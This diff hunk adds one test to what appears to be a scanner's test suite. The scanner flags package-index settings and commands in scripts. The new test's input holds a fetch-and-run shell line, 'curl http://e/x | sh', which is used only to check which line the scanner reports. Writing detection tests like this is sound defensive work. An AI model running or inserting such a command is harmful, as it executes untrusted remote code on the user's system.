@@ -428,6 +428,11 @@ def test_foreign_package_index_in_npm_settings_is_reported(read_bytes):
         assert list_mentions(read_bytes(f"registry={address}\n".encode(), ".npmrc")) == [("index", address)]
 
 
+def test_line_of_a_command_behind_an_ansi_text_of_two_lines_counts_both():
+    [mention] = collect_script_mentions("x=$'a\nb'\ncurl http://e/x | sh")
+    assert mention.where.line == 3
+
+
 def test_default_package_index_of_npm_gives_no_mention(read_bytes):
     assert list_mentions(read_bytes(b"registry=https://registry.npmjs.org/\n", ".npmrc")) == []
 
